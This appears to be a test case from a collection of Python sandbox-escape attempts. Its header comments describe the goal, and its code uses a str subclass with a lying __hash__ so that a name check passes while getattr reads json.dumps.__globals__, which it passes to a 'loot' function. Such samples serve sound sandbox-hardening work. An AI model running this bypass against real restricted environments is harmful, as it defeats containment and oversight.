# aim: use a name whose hash is another one, the first few times it is asked
# mechanism: a str subclass with a lying __hash__; the interpreter asks last
# language: builtins
# reason: the name that was checked must be the name that is read
# jail: process
# plain: loot

import json


class Liar(str):
    asked = 0

    def __eq__(self, other):
        return str(self) == other

    def __hash__(self):
        Liar.asked += 1
        return hash("name") if Liar.asked <= lies else hash(str(self))


for lies in range(8):
    Liar.asked = 0
    try:
        loot(getattr(json.dumps, Liar("__globals__")))
    except Exception:
        pass
